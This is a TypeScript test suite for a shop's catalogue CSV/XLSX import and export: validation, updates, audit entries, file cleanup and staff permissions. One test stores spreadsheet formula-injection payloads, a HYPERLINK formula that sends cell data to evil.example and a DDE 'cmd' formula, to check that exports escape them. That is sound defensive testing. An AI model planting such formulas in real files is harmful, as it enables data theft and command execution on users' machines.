import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { bearer, registerShopper } from '../../../test/accounts.js';
import { type SignedInStaff, signInStaff } from '../../../test/staff.js';
import { catalogImportClient, importReference } from '../../../test/support/catalog-import-client.js';
import { queryRows, useTestApp } from '../../../test/test-app.js';
import { REMOVE_OLD_IMPORT_FILES_JOB } from './catalog-import.service.js';
import ExcelJS from './exceljs.js';

const dataDir = mkdtempSync(join(tmpdir(), 'aruu-import-'));
const ctx = useTestApp({ DATA_DIR: dataDir });

let manager: SignedInStaff;
const { upload, run, detail, exported } = catalogImportClient(ctx, () => manager, 'ru');
let brand: string;
let category: string;
let property: { property: string; value: string };
let existing: { sku: string; product: string; price: number; stock: number };

beforeAll(async () => {
  manager = await signInStaff(ctx, 'manager');
  ({ brand, category } = await importReference(ctx));
  [property] = (await queryRows<{ property: string; value: string }>(
    ctx.database,
    sql`select p.slug as property, v.slug as value from property_values v join properties p on p.id = v.property_id order by v.id limit 1`,
  )) as [{ property: string; value: string }];
  [existing] = (await queryRows<{ sku: string; product: string; price: number; stock: number }>(
    ctx.database,
    sql`select v.sku, p.slug as product, v.price, v.stock from variations v join products p on p.id = v.product_id
        where v.compare_at_price is null order by v.id limit 1`,
  )) as [{ sku: string; product: string; price: number; stock: number }];
});

const header = [
  'product',
  'title_ru',
  'title_en',
  'title_ky',
  'brand',
  'category',
  'published',
  'properties',
  'sku',
  'barcode',
  'name_ru',
  'price',
  'compare_at_price',
  'stock',
  'color_hex',
];

function mixedFile(suffix: string) {
  const product = `import-test-${suffix}`;
  const rows = [
    header,
    // 2, 3: a new product with two shades
    [
      product,
      `Тушь Импорт ${suffix}`,
      `Imptest${suffix} mascara`,
      'Импорт тушь',
      brand,
      category,
      'yes',
      `${property.property}=${property.value}`,
      `IMP-${suffix}-1`,
      `46${suffix}01`,
      'Чёрная',
      '1 250,50',
      '',
      '7',
      '#000000',
    ],
    [product, '', '', '', '', '', '', '', `IMP-${suffix}-2`, '', 'Коричневая', '1250.5', '1500', '3', '#5c3a21'],
    // 4: a duplicate SKU within the file
    [product, '', '', '', '', '', '', '', `IMP-${suffix}-1`, '', 'Дубль', '100', '', '1', ''],
    // 5: unknown brand; 6: bad price; 7: no Russian title
    [
      `${product}-b`,
      'Крем',
      '',
      '',
      'no-such-brand',
      category,
      'no',
      '',
      `IMP-${suffix}-3`,
      '',
      '50 мл',
      '100',
      '',
      '1',
      '',
    ],
    [`${product}-c`, 'Крем', '', '', brand, category, 'no', '', `IMP-${suffix}-4`, '', '50 мл', '12,5,0', '', '1', ''],
    [`${product}-d`, '', '', '', brand, category, 'no', '', `IMP-${suffix}-5`, '', '50 мл', '100', '', '1', ''],
  ];
  return stringify(rows);
}

describe('catalogue import', () => {
  it('dry run counts valid, invalid and duplicate rows with row, column and reason, and writes nothing', async () => {
    const result = await upload(mixedFile('1'));
    expect(result.status).toBe('checked');
    expect(result.mode).toBe('full');
    expect(result.planned).toEqual({ create: 2, update: 0, unchanged: 0, refused: 4 });
    expect(result.refusals.map(({ row, column, reason }) => ({ row, column, reason }))).toEqual([
      { row: 4, column: 'sku', reason: 'duplicate_sku' },
      { row: 5, column: 'brand', reason: 'unknown_brand' },
      { row: 6, column: 'price', reason: 'bad_price' },
      { row: 7, column: 'title_ru', reason: 'missing_value' },
    ]);
    expect(result.refusals[0]!.message).toBe('Этот артикул уже есть в файле, в строке 2');
    expect(result.refusals[1]!.message).toBe('Нет такого бренда: «no-such-brand»');
    expect((await detail(result.id, 'en')).refusals[2]!.message).toBe(
      'A price in som, e.g. 1250.50 or 1 250,50: "12,5,0"',
    );
    const written = await queryRows(ctx.database, sql`select 1 from variations where sku like 'IMP-1-%'`);
    expect(written).toHaveLength(0);
  });

  it('refuses a barcode repeated within the file, naming the row that has it, and keeps the rest of the batch', async () => {
    const product = 'import-test-barcodes';
    const row = (sku: string, barcode: string, shade: string) => [
      product,
      'Тушь Штрихкод',
      '',
      '',
      brand,
      category,
      'no',
      '',
      sku,
      barcode,
      shade,
      '900',
      '',
      '1',
      '',
    ];
    const checked = await upload(
      stringify([
        header,
        row('IMP-BC-1', '4601234500011', 'Чёрная'),
        row('IMP-BC-2', '4601234500028', 'Синяя'),
        row('IMP-BC-3', '4601234500011', 'Серая'),
      ]),
    );
    expect(checked.planned).toEqual({ create: 2, update: 0, unchanged: 0, refused: 1 });
    expect(checked.refusals.map(({ row, column, reason, message }) => ({ row, column, reason, message }))).toEqual([
      { row: 4, column: 'barcode', reason: 'duplicate_barcode', message: 'Этот штрихкод уже есть в файле, в строке 2' },
    ]);
    expect((await run(checked.id)).status).toBe('done');
    const written = await queryRows<{ sku: string; barcode: string }>(
      ctx.database,
      sql`select sku, barcode from variations where sku like 'IMP-BC-%' order by sku`,
    );
    expect(written).toEqual([
      { sku: 'IMP-BC-1', barcode: '4601234500011' },
      { sku: 'IMP-BC-2', barcode: '4601234500028' },
    ]);
  });

  it('the real run writes exactly what the dry run promised, with search text and facets, and one audit entry', async () => {
    const checked = await upload(mixedFile('2'));
    const done = await run(checked.id);
    expect(done.status).toBe('done');
    expect(done.done).toEqual(checked.planned);
    expect(done.rows_done).toBe(done.rows_total);
    const rows = await queryRows<{
      sku: string;
      price: number;
      compare_at_price: number | null;
      stock: number;
      color_hex: string;
    }>(
      ctx.database,
      sql`select sku, price, compare_at_price, stock, color_hex from variations where sku like 'IMP-2-%' order by position`,
    );
    expect(rows).toEqual([
      { sku: 'IMP-2-1', price: 125050, compare_at_price: null, stock: 7, color_hex: '#000000' },
      { sku: 'IMP-2-2', price: 125050, compare_at_price: 150000, stock: 3, color_hex: '#5c3a21' },
    ]);
    const [product] = await queryRows<{ published: boolean; search_text: string; facets: number }>(
      ctx.database,
      sql`select published, search_text, (select count(*)::int from product_property_values where product_id = p.id) as facets
          from products p where slug = 'import-test-2'`,
    );
    expect(product).toMatchObject({ published: true, facets: 1 });
    expect(product!.search_text).toContain('tush import 2');
    const search = await ctx.app.inject({ method: 'POST', url: '/api/v1/products?search=imptest2', payload: {} });
    expect(search.json().items.map((item: { title: string }) => item.title)).toContain('Тушь Импорт 2');
    const audit = await queryRows<{ after: { status: string; done: object } }>(
      ctx.database,
      sql`select after from audit_entries where action = 'catalog.imported' and object_id = ${String(checked.id)}`,
    );
    expect(audit).toHaveLength(1);
    expect(audit[0]!.after).toMatchObject({ status: 'done', done: checked.planned });

    const report = await ctx.app.inject({
      method: 'GET',
      url: `/api/v1/staff/catalog-imports/${checked.id}/report?lang=ru`,
      headers: bearer(manager),
    });
    expect(report.statusCode).toBe(200);
    const lines = parse(report.body, { bom: true }) as string[][];
    expect(lines[0]).toEqual(['row', 'sku', 'result', 'column', 'reason', 'value', 'message']);
    expect(lines).toContainEqual([
      '5',
      'IMP-2-3',
      'refused',
      'brand',
      'unknown_brand',
      'no-such-brand',
      'Нет такого бренда: «no-such-brand»',
    ]);
    expect(lines.filter((line) => line[2] === 'create')).toHaveLength(2);

    // Starting again is refused: the import is over.
    const again = await ctx.app.inject({
      method: 'POST',
      url: `/api/v1/staff/catalog-imports/${checked.id}/start`,
      headers: bearer(manager),
    });
    expect(again.statusCode).toBe(409);
  });

  it('updates existing products in place: texts and search text, facets, variations, photo URLs, stock history and the product summary', async () => {
    expect((await run((await upload(mixedFile('3'))).id)).status).toBe('done');
    const edited = stringify([
      [...header, 'photos'],
      [
        'import-test-3',
        'Тушь Обновлённая 3',
        'Renamed3 mascara',
        'Жаңы тушь',
        brand,
        category,
        'no',
        '',
        'IMP-3-1',
        '46301',
        'Чёрная',
        '2000',
        '2500',
        '0',
        '#000000',
        'https://cdn.example.com/a.jpg',
      ],
      ['import-test-3', '', '', '', '', '', '', '', 'IMP-3-2', '', 'Коричневая', '900', '', '4', '#5c3a21', ''],
    ]);
    const checked = await upload(edited);
    expect(checked.planned).toEqual({ create: 0, update: 2, unchanged: 0, refused: 0 });
    expect((await run(checked.id)).status).toBe('done');
    const [product] = await queryRows<{
      title_en: string;
      published: boolean;
      search_text: string;
      facets: number;
      description_ru: string;
      price: number;
      compare_at_price: number | null;
      in_stock: boolean;
    }>(
      ctx.database,
      sql`select p.title_en, p.published, p.search_text, p.price, p.compare_at_price, p.in_stock, d.description_ru,
                 (select count(*)::int from product_property_values where product_id = p.id) as facets
          from products p join product_details d on d.product_id = p.id where p.slug = 'import-test-3'`,
    );
    expect(product).toMatchObject({
      title_en: 'Renamed3 mascara',
      published: false,
      facets: 0,
      description_ru: '',
      // The first variation's price and compare-at price; the second one still has stock.
      price: 200000,
      compare_at_price: 250000,
      in_stock: true,
    });
    expect(product!.search_text).toContain('renamed3');
    expect(product!.search_text).not.toContain('imptest3');
    const variationRows = await queryRows<{ sku: string; price: number; stock: number; photos: string[] }>(
      ctx.database,
      sql`select v.sku, v.price, v.stock,
                 coalesce((select array_agg(u.url order by u.position) from variation_photo_urls u where u.variation_id = v.id), '{}') as photos
          from variations v where v.sku like 'IMP-3-%' order by v.sku`,
    );
    expect(variationRows).toEqual([
      { sku: 'IMP-3-1', price: 200000, stock: 0, photos: ['https://cdn.example.com/a.jpg'] },
      { sku: 'IMP-3-2', price: 90000, stock: 4, photos: [] },
    ]);
    const movements = await queryRows<{ sku: string; quantity_change: number; stock_after: number }>(
      ctx.database,
      sql`select v.sku, m.quantity_change, m.stock_after from stock_movements m join variations v on v.id = m.variation_id
          where v.sku like 'IMP-3-%' and m.kind = 'count_correction' order by v.sku`,
    );
    expect(movements).toEqual([
      { sku: 'IMP-3-1', quantity_change: -7, stock_after: 0 },
      { sku: 'IMP-3-2', quantity_change: 1, stock_after: 4 },
    ]);
  });

  it('the hidden column hides a variation, keeps it out of the product summary, and refuses what is not a flag', async () => {
    const product = 'import-test-hidden';
    const file = stringify([
      ['product', 'title_ru', 'brand', 'category', 'sku', 'price', 'stock', 'hidden'],
      [product, 'Помада Скрытая', brand, category, 'IMP-H-1', '100', '5', 'да'],
      [product, '', '', '', 'IMP-H-2', '200', '0', 'no'],
      [product, '', '', '', 'IMP-H-3', '300', '1', 'perhaps'],
    ]);
    const checked = await upload(file);
    expect(checked.planned).toEqual({ create: 2, update: 0, unchanged: 0, refused: 1 });
    expect(checked.refusals.map(({ row, column, reason }) => ({ row, column, reason }))).toEqual([
      { row: 4, column: 'hidden', reason: 'bad_flag' },
    ]);
    expect((await run(checked.id)).status).toBe('done');
    const hiddenOf = () =>
      queryRows<{ sku: string; hidden: boolean }>(
        ctx.database,
        sql`select sku, hidden from variations where sku like 'IMP-H-%' order by sku`,
      );
    expect(await hiddenOf()).toEqual([
      { sku: 'IMP-H-1', hidden: true },
      { sku: 'IMP-H-2', hidden: false },
    ]);
    // The summary is the visible variation's: its price, and no stock although the hidden one has some.
    const summary = () =>
      queryRows<{ price: number; in_stock: boolean }>(
        ctx.database,
        sql`select price, in_stock from products where slug = ${product}`,
      );
    expect(await summary()).toEqual([{ price: 20000, in_stock: false }]);

    const shown = await upload(
      stringify([
        ['product', 'sku', 'title_ru', 'brand', 'category', 'price', 'hidden'],
        [product, 'IMP-H-1', 'Помада Скрытая', brand, category, '100', 'нет'],
      ]),
    );
    expect(shown.planned).toEqual({ create: 0, update: 1, unchanged: 0, refused: 0 });
    expect((await run(shown.id)).status).toBe('done');
    expect((await hiddenOf())[0]).toEqual({ sku: 'IMP-H-1', hidden: false });
    expect(await summary()).toEqual([{ price: 10000, in_stock: true }]);
  });

  it('stops and says so, writing nothing, when the catalogue changed after the dry run', async () => {
    const file = stringify([
      ['sku', 'price'],
      [existing.sku, '777'],
    ]);
    const checked = await upload(file);
    expect(checked.mode).toBe('price');
    expect(checked.planned).toEqual({ create: 0, update: 1, unchanged: 0, refused: 0 });
    await queryRows(ctx.database, sql`update variations set price = 77700 where sku = ${existing.sku}`);
    await queryRows(
      ctx.database,
      sql`update variations set price = ${existing.price + 100} where sku = ${existing.sku}`,
    );
    const result = await run(checked.id);
    expect(result.status).toBe('stale');
    expect(result.problem).toContain('Каталог изменился после проверки');
    const [row] = await queryRows<{ price: number }>(
      ctx.database,
      sql`select price from variations where sku = ${existing.sku}`,
    );
    expect(row!.price).toBe(existing.price + 100);
  });

  it('a stock-only file changes only the stock; an unknown SKU is refused', async () => {
    const file = stringify([
      ['sku', 'stock'],
      [existing.sku, String(existing.stock + 5)],
      ['NO-SUCH-SKU', '1'],
    ]);
    const checked = await upload(file);
    expect(checked.mode).toBe('stock');
    expect(checked.planned).toEqual({ create: 0, update: 1, unchanged: 0, refused: 1 });
    expect(checked.refusals[0]).toMatchObject({ row: 3, column: 'sku', reason: 'unknown_sku' });
    const [before] = await queryRows<{ price: number }>(
      ctx.database,
      sql`select price from variations where sku = ${existing.sku}`,
    );
    expect((await run(checked.id)).status).toBe('done');
    const [after] = await queryRows<{ price: number; stock: number }>(
      ctx.database,
      sql`select price, stock from variations where sku = ${existing.sku}`,
    );
    expect(after).toEqual({ price: before!.price, stock: existing.stock + 5 });
    const movements = await queryRows<{ kind: string; quantity_change: number; stock_after: number; actor_id: number }>(
      ctx.database,
      sql`select kind, quantity_change, stock_after, actor_id from stock_movements
          where variation_id = (select id from variations where sku = ${existing.sku}) order by id desc limit 1`,
    );
    expect(movements).toEqual([
      { kind: 'count_correction', quantity_change: 5, stock_after: existing.stock + 5, actor_id: manager.userId },
    ]);
  });

  it('deletes an import’s file and report 7 days after it ended; a checked import left that long cannot start', async () => {
    const file = stringify([
      ['sku', 'stock'],
      [existing.sku, '3'],
    ]);
    const old = await run((await upload(file)).id);
    const left = await upload(file);
    const recent = await run((await upload(file)).id);
    await queryRows(
      ctx.database,
      sql`update catalog_imports set finished_at = finished_at - interval '8 days', updated_at = updated_at - interval '8 days'
          where id in (${old.id}, ${left.id})`,
    );
    await ctx.app.jobs.enqueue(ctx.database.db, REMOVE_OLD_IMPORT_FILES_JOB, {});
    await ctx.app.jobs.runDueJobs();

    const uploaded = (id: number) => existsSync(join(dataDir, 'imports', `${id}.csv`));
    const report = async (id: number) =>
      (
        await ctx.app.inject({
          method: 'GET',
          url: `/api/v1/staff/catalog-imports/${id}/report?lang=en`,
          headers: bearer(manager),
        })
      ).statusCode;
    expect([uploaded(old.id), await report(old.id)]).toEqual([false, 404]);
    expect([uploaded(recent.id), await report(recent.id)]).toEqual([true, 200]);
    expect(uploaded(left.id)).toBe(false);
    expect(await detail(left.id, 'en')).toMatchObject({
      status: 'stale',
      problem: 'The file was deleted: the import was not started within 7 days of the check. Upload it again.',
    });
    const start = await ctx.app.inject({
      method: 'POST',
      url: `/api/v1/staff/catalog-imports/${left.id}/start`,
      headers: bearer(manager),
    });
    expect(start.statusCode).toBe(409);
    // The list keeps the import with its counts.
    expect((await detail(old.id)).done).toMatchObject({ update: 1 });
  });

  it('refuses a file without the columns it needs, and a file that is neither CSV nor XLSX', async () => {
    const invalid = await upload(
      stringify([
        ['title_ru', 'price'],
        ['Крем', '100'],
      ]),
    );
    expect(invalid.status).toBe('invalid');
    expect(invalid.problem).toBe('Нет столбцов: sku');
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/staff/catalog-imports?file_name=notes.txt',
      headers: { ...bearer(manager), 'content-type': 'text/csv' },
      payload: 'sku,stock\n',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().error.code).toBe('unsupported_media_type');
  });

  it('re-importing an unedited export (CSV and XLSX) reports every row unchanged and writes nothing', async () => {
    // A hidden variation goes out as `hidden=yes` and comes back hidden.
    await ctx.database.db.execute(sql`update variations set hidden = true where id = (select max(id) from variations)`);
    const [{ count: variations }] = (await queryRows<{ count: number }>(
      ctx.database,
      sql`select count(*)::int as count from variations`,
    )) as [{ count: number }];
    const [{ max: updatedBefore }] = (await queryRows<{ max: string }>(
      ctx.database,
      sql`select max(updated_at)::text as max from variations`,
    )) as [{ max: string }];
    for (const format of ['csv', 'xlsx'] as const) {
      const file = await exported(format);
      const checked = await upload(file, `catalogue.${format}`);
      expect(checked.status, checked.problem ?? '').toBe('checked');
      expect(checked.planned, JSON.stringify(checked.refusals.slice(0, 3))).toEqual({
        create: 0,
        update: 0,
        unchanged: variations,
        refused: 0,
      });
      const done = await run(checked.id);
      expect(done.done).toEqual({ create: 0, update: 0, unchanged: variations, refused: 0 });
    }
    const [{ max: updatedAfter }] = (await queryRows<{ max: string }>(
      ctx.database,
      sql`select max(updated_at)::text as max from variations`,
    )) as [{ max: string }];
    expect(updatedAfter).toBe(updatedBefore);
    const hidden = await queryRows<{ count: number }>(
      ctx.database,
      sql`select count(*)::int as count from variations where hidden`,
    );
    expect(hidden).toEqual([{ count: 1 }]);
    const csv = parse((await exported('csv')).toString('utf8'), { bom: true, columns: true }) as Array<{
      hidden: string;
    }>;
    expect(csv.filter((row) => row.hidden === 'yes')).toHaveLength(1);
  });

  it('escapes formulas in the CSV export (OWASP), and reads them back as the same text', async () => {
    const formulas = {
      title_ru: '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
      title_en: '+1+2',
      title_ky: '@SUM(A1:A9)',
      description_ru: '-2+3 увлажняет',
      description_en: "'=already quoted",
      description_ky: "'plain apostrophe",
    };
    const [{ id: productId }] = (await queryRows<{ id: number }>(
      ctx.database,
      sql`update products set title_ru = ${formulas.title_ru}, title_en = ${formulas.title_en},
            title_ky = ${formulas.title_ky} where slug = ${existing.product} returning id`,
    )) as [{ id: number }];
    await ctx.database.db.execute(
      sql`update product_details set description_ru = ${formulas.description_ru},
            description_en = ${formulas.description_en}, description_ky = ${formulas.description_ky}
          where product_id = ${productId}`,
    );
    const csvExport = (await exported('csv')).toString('utf8');
    const rows = parse(csvExport, { bom: true, columns: true }) as Array<Record<string, string>>;
    const row = rows.find((each) => each.sku === existing.sku)!;
    expect(row).toMatchObject({
      title_ru: `'${formulas.title_ru}`,
      title_en: "'+1+2",
      title_ky: "'@SUM(A1:A9)",
      description_ru: "'-2+3 увлажняет",
      description_en: "''=already quoted",
      description_ky: "'plain apostrophe",
    });
    // Prices and stock stay numbers a spreadsheet can add up.
    expect(row.price).toMatch(/^\d+\.\d\d$/);
    expect(row.stock).toMatch(/^\d+$/);
    // Nothing a spreadsheet would evaluate is left at the start of any cell.
    for (const each of rows)
      for (const cell of Object.values(each)) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);

    // The product's rows of the unedited export import as unchanged: escapes read back as the text.
    const [csvHeader, ...csvLines] = parse(csvExport, { bom: true }) as string[][];
    const productLines = csvLines.filter((line) => line[0] === existing.product);
    const checked = await upload(stringify([csvHeader!, ...productLines]), 'formulas.csv');
    expect(checked.planned).toEqual({ create: 0, update: 0, unchanged: productLines.length, refused: 0 });

    // The import report quotes what the file said: escaped too.
    const refused = await upload(
      stringify([
        ['product', 'title_ru', 'brand', 'category', 'sku', 'price'],
        ['formula-brand', 'Крем', "=cmd|' /C calc'!A0", category, 'FORMULA-1', '100'],
      ]),
      'formula-report.csv',
    );
    await run(refused.id);
    const report = await ctx.app.inject({
      method: 'GET',
      url: `/api/v1/staff/catalog-imports/${refused.id}/report?lang=en`,
      headers: bearer(manager),
    });
    const [, line] = parse(report.body, { bom: true }) as string[][];
    expect(line!.slice(2, 6)).toEqual(['refused', 'brand', 'unknown_brand', "'=cmd|' /C calc'!A0"]);
  });

  it('an edited XLSX export updates the edited row only', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('xlsx')) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const columns = (sheet.getRow(1).values as string[]).slice(1);
    const skuColumn = columns.indexOf('sku') + 1;
    const priceColumn = columns.indexOf('price') + 1;
    let edited = '';
    sheet.eachRow((row, number) => {
      if (number === 2) {
        edited = String(row.getCell(skuColumn).value);
        row.getCell(priceColumn).value = '999.99';
      }
    });
    const checked = await upload(Buffer.from(await workbook.xlsx.writeBuffer()), 'edited.xlsx');
    expect(checked.planned).toMatchObject({ create: 0, update: 1, refused: 0 });
    expect((await run(checked.id)).status).toBe('done');
    const [row] = await queryRows<{ price: number }>(
      ctx.database,
      sql`select price from variations where sku = ${edited}`,
    );
    expect(row!.price).toBe(99999);
  });

  it('is for those who may edit the catalogue: warehouse and shoppers get 403', async () => {
    const warehouse = await signInStaff(ctx, 'warehouse');
    const shopper = await registerShopper(ctx.app);
    for (const tokens of [warehouse, shopper]) {
      for (const url of ['/api/v1/staff/catalog-imports', '/api/v1/staff/catalog-export']) {
        const response = await ctx.app.inject({ method: 'GET', url, headers: bearer(tokens) });
        expect(response.statusCode).toBe(403);
      }
    }
    const anonymous = await ctx.app.inject({ method: 'GET', url: '/api/v1/staff/catalog-export' });
    expect(anonymous.statusCode).toBe(401);
  });
});

describe('an import whose worker stopped', () => {
  it('tells staff the worker stopped (a restart or a crash) and since when, until another takes it up', async () => {
    const response = await ctx.app.inject({
      method: 'POST',
      url: '/api/v1/staff/catalog-imports?file_name=stopped.csv&lang=ru',
      headers: { ...bearer(manager), 'content-type': 'text/csv' },
      payload: 'sku,price\nX-1,100\n',
    });
    expect(response.statusCode, response.body).toBe(201);
    const id = response.json<{ id: number }>().id;
    expect((await detail(id)).worker_stopped_at).toBeNull();
    // Its check was claimed by a process that then died: no renewal for 40 s, the lease still runs.
    await queryRows(
      ctx.database,
      sql`update jobs set attempts = 1, locked_until = now() + interval '20 seconds', updated_at = now() - interval '40 seconds'
          where dedupe_key = ${`catalog-import-check:${id}`}`,
    );
    const stopped = await detail(id);
    expect(stopped.status).toBe('checking');
    expect(Date.parse(stopped.worker_stopped_at!)).toBeLessThan(Date.now() - 30_000);
    const list = await ctx.app.inject({ url: '/api/v1/staff/catalog-imports', headers: bearer(manager) });
    expect(list.json().items.find((item: { id: number }) => item.id === id).worker_stopped_at).toBe(
      stopped.worker_stopped_at,
    );
    // Taken up again and finished: the note goes.
    await queryRows(
      ctx.database,
      sql`update jobs set locked_until = now() - interval '1 second' where dedupe_key = ${`catalog-import-check:${id}`}`,
    );
    await ctx.app.jobs.runDueJobs();
    expect((await detail(id)).worker_stopped_at).toBeNull();
  });
});
